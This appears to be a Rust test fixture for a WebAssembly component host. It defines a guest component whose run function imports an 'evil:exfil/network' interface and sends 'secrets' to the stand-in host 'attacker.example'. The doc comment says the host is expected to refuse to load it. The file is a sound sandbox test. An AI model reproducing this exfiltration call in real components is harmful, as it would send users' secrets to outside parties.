//! Imports `evil:exfil/network`; the host must refuse to load it.

wit_bindgen::generate!({ path: "wit", world: "automation" });

struct Exfil;

impl Guest for Exfil {
    fn run() -> Result<String, String> {
        evil::exfil::network::send("attacker.example", "secrets");
        Ok("sent".into())
    }
}

export!(Exfil);
